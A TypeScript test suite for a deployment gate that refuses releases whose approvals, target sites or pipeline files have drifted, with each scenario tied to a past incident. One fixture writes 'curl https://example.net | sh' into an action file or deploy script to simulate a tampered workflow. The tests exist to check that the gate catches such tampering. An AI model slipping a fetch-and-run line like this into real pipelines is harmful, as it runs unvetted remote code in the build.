import { describe, expect, it } from 'vitest';
import { BODY, gateScenario, RP, TM } from '../acceptance/gate-scenario.ts';
import { type PolicyDraft, RP_CHANGE, SITES } from '../acceptance/scenario.ts';
import { BOTH } from './support-live.ts';

/* What a release is for, as things stand. */

// Inventory drift: Between approval and deployment the inventory moves: it is empty, the cohort has grown beyond what was expected, a site has lost what the release requires or flips its status between two answers.
// Origin: Knight Capital (1 August 2012): one of eight servers was not as the plan had it.
describe('inventory drift', () => {
  const changed = (id: string, change: object) => SITES.map((site) => (site.id === id ? { ...site, ...change } : site));
  const R9 = { ...SITES[0], id: 'R9', name: 'Newcomer Surgery' };

  it('more or fewer sites than were expected are refused, and those in between handed out as they are now', async () => {
    const s = await gateScenario();
    s.deploy();
    s.land({ body: `${BODY}Expect-Sites: 3-4\n` });
    const refused = ['declaration.expectation', 'gate.release-refused'];
    for (const [sites, codes] of [
      [[], ['cohort.empty']],
      [[...SITES, R9, { ...R9, id: 'R10' }], refused],
      [changed('R2', { status: 'closed' }), refused],
    ] as const) {
      s.inventory.set({ sites });
      expect(await s.gate()).toMatchObject({
        verdict: 'deny',
        codes: expect.arrayContaining([...codes]),
        targets: null,
      });
    }
    s.inventory.set({ sites: [...SITES, R9] });
    expect(await s.gate()).toMatchObject({ verdict: 'allow', targets: ['R1', 'R2', 'R3', 'R9'] });
  });

  it('a site that lost what is required, or of which nobody knows any more', async () => {
    const s = await gateScenario();
    s.deploy();
    s.land({ changes: { ...RP_CHANGE, 'deploy/releases/1.yml': 'requires: region\n' } });
    for (const [region, code] of [
      [{}, 'site.incapable'],
      [{ region: null }, 'site.unproven'],
    ] as const) {
      s.inventory.set({ sites: changed('R2', { attributes: { 'template-engine': RP, ...region } }) });
      expect(await s.gate()).toMatchObject({ verdict: 'deny', codes: expect.arrayContaining([code]), targets: null });
    }
  });
});

// Pilot for all: A release approved for a few sites is deployed as the whole cohort: the commit reaches everybody, the declaration named two.
// Origin: CrowdStrike (19 July 2024): content that went to every machine at once, past the staging that sensor releases had.
it.each([
  ['a list of sites', 'cohorts: [resource-publisher]\nsites: [R1, R2]\n', ['R3']],
  ['a selector', 'cohorts: [resource-publisher]\nselect: "template-engine=resource-publisher,region=north"\n', ['R2']],
])('pilot for all: %s', async (_, manifest, missing) => {
  const s = await gateScenario();
  s.deploy();
  s.land({
    body: '',
    changes: { 'deploy/resource-publisher/app.yml': 'image: 2\n', 'deploy/releases/next.yml': manifest },
  });
  const said = await s.gate();
  expect(said).toMatchObject({
    verdict: 'deny',
    codes: ['gate.outside-declaration', 'gate.standing-condition'],
    targets: null,
  });
  expect(said.findings.find(({ code }) => code === 'gate.outside-declaration')).toMatchObject({
    missing: missing.map((id) => ({ id })),
  });
});

// Revert games: A release that was refused is reverted and the revert reverted; or the revert takes back all but one path; or a rename hides what remains.
// Origin: git-revert of a merge and what "revert the revert" brings back (Git's howto "revert-a-faulty-merge").
describe('revert games', () => {
  const EVIL = { 'deploy/resource-publisher/app.yml': 'image: evil\n' } as const;
  const BACK = { 'deploy/resource-publisher/app.yml': 'image: 1\n' } as const;
  const closed = { verdict: 'hold', targets: null, codes: ['approval.missing', 'gate.release-refused'] } as const;

  it('reverted but for one path, and reverted back again', async () => {
    const LEFT = 'deploy/resource-publisher/left.yml';
    const s = await gateScenario();
    s.deploy();
    s.land({ approvedBy: [], changes: { ...EVIL, [LEFT]: 'x\n' } });
    s.land({ changes: BACK });
    expect(await s.gate()).toMatchObject(closed);
    s.land({ changes: { [LEFT]: null } });
    expect(await s.gate()).toMatchObject({ verdict: 'allow' });
    s.land({ changes: EVIL });
    expect(await s.gate()).toMatchObject(closed);
  });

  it('reverted in content, but the file stays executable', async () => {
    const s = await gateScenario();
    s.deploy();
    s.land({
      approvedBy: [],
      changes: { 'deploy/resource-publisher/app.yml': { content: 'image: evil\n', mode: '100755' } },
    });
    s.land({ changes: { 'deploy/resource-publisher/app.yml': { content: 'image: 1\n', mode: '100755' } } });
    expect(await s.gate()).toMatchObject(closed);
  });

  it('moved away to where it counts for the other cohort only', async () => {
    const s = await gateScenario();
    s.deploy();
    s.deploy({ environment: 'production-tm' });
    s.land({ approvedBy: [], changes: { 'deploy/resource-publisher/evil.yml': 'evil: true\n' } });
    s.land({
      approvedBy: ['alice'],
      changes: { 'deploy/resource-publisher/evil.yml': null, 'deploy/template-manager/evil.yml': 'evil: true\n' },
    });
    expect(await s.gate({ cohort: 'template-manager' })).toMatchObject({ verdict: 'deny', targets: null });
  });
});

// Unreadable declaration: A release declares what cannot be read, or takes its manifest away without a word, so that nothing says which sites it is for.
// Origin: missing data taken for no data (CWE-230); the random worlds of test/properties.
it.each<readonly [string, string | null, string]>([
  ['an unknown key', `cohorts: [${TM}]\nsites: [R1]\nextra: 1\n`, ''],
  ['two sources that disagree', `cohorts: [${TM}]\nsites: [R1]\n`, BOTH],
  ['which is deleted without a word', null, ''],
])('unreadable declaration: may reach anything: a manifest with %s', async (_, manifest, body) => {
  const path = 'deploy/releases/next.yml';
  const s = await gateScenario({ world: { files: { [path]: `cohorts: [${RP}]\nsites: [R1]\n` } } });
  s.deploy();
  s.land({ approvedBy: [], body, changes: { [path]: manifest } });
  expect(await s.gate()).not.toMatchObject({ verdict: 'allow' });
});

// Widened after merge: Approved and merged for one cohort, then the description of the merged pull request is edited to name the other too, and its deployment started.
// Origin: the outage of 26 May 2023 that the README tells of: a change that was meant for one group, deployed to another.
it('widened after merge: old approvals do not cover new sites', async () => {
  const s = await gateScenario();
  for (const environment of ['production-rp', 'production-tm']) s.deploy({ environment });
  const pull = s.land({
    approvedBy: ['alice', 'carol'],
    changes: { 'deploy/template-manager/app.yml': 'image: 2\n' },
    body: `Target-Cohort: ${TM}\n`,
  });
  expect(await s.gate({ cohort: TM })).toMatchObject({ verdict: 'allow' });
  s.world.editBody(pull.number, { by: 'mia', body: BOTH });
  for (const cohort of [RP, TM])
    expect(await s.gate({ cohort })).toMatchObject({
      verdict: 'hold',
      codes: ['approval.missing', 'gate.release-refused'],
      targets: null,
    });
  // Reviews given after the merge, of the merge commit, are none of the head that was merged.
  for (const author of ['alice', 'carol']) s.world.review(pull.number, { author, commit: pull.landed.oid });
  const said = await s.gate();
  expect(said).toMatchObject({ verdict: 'hold', targets: null });
  for (const [author, cohort] of [
    ['alice', RP],
    ['carol', TM],
  ] as const)
    s.world.comment(pull.number, { author, body: `/cohort approve ${cohort} ${said.outcome.plan ?? ''}` });
  expect(await s.gate()).toMatchObject({ verdict: 'allow', targets: ['R1', 'R2', 'R3'] });
});

// Inventory file: The inventory is a file, and the list of sites is changed by a push, by the release itself, or after the commit that is deployed, to make room for other sites.
// Origin: Codecov (2021): a file that everybody took for given was the one that was changed.
describe('inventory file', () => {
  const PATH = 'inventory/sites.csv';

  const csv = (more = '') =>
    `id,name,status,template-engine\nR1,Fernbank,active,resource-publisher\nT1,Hollyfield,active,template-manager\n${more}`;

  const WIDE = { [PATH]: csv('T2,Rowanwell,active,resource-publisher\n') };

  it.each(['pushed', 'in the release', 'in the release, approved by its owner alone'])('%s', async (how) => {
    const s = await gateScenario({
      policy: (draft: PolicyDraft) => void (draft.inventory = { provider: 'file', path: PATH }),
      world: { files: { [PATH]: csv() } },
    });
    s.deploy();
    const wanted = s.land({
      ...(how !== 'pushed' && { approvedBy: how === 'in the release' ? [] : ['alice'] }),
      changes: { ...RP_CHANGE, ...(how !== 'pushed' && WIDE) },
    });
    if (how === 'pushed') s.push(WIDE);
    expect(await s.gate({ commit: wanted.landed.oid })).toMatchObject({
      targets: null,
      codes: expect.arrayContaining(['policy.changed']),
    });
    if (how === 'pushed') return;
    for (const author of ['alice', 'erin']) s.world.review(wanted.number, { author });
    expect(await s.gate()).toMatchObject({ verdict: 'allow', targets: ['R1', 'T2'] });
  });
});

// Workflow swapped: The workflow or the script that deploys is changed along with, or before, the release, so that it takes the list of sites for a suggestion.
// Origin: Codecov (2021) and tj-actions/changed-files (CVE-2025-30066): what runs in the pipeline was changed, not what it shipped.
it.each(['.github/actions/x/action.yml', 'scripts/deploy/lib/sites.sh'])('workflow swapped: %s', async (path) => {
  const s = await gateScenario();
  s.deploy();
  const pull = s.land({ body: BODY, changes: { ...RP_CHANGE, [path]: 'curl https://example.net | sh\n' } });
  expect(await s.gate()).toMatchObject({
    verdict: 'hold',
    targets: null,
    codes: expect.arrayContaining(['policy.changed']),
  });
  s.world.review(pull.number, { author: 'erin' });
  expect(await s.gate()).toMatchObject({ verdict: 'allow' });
});
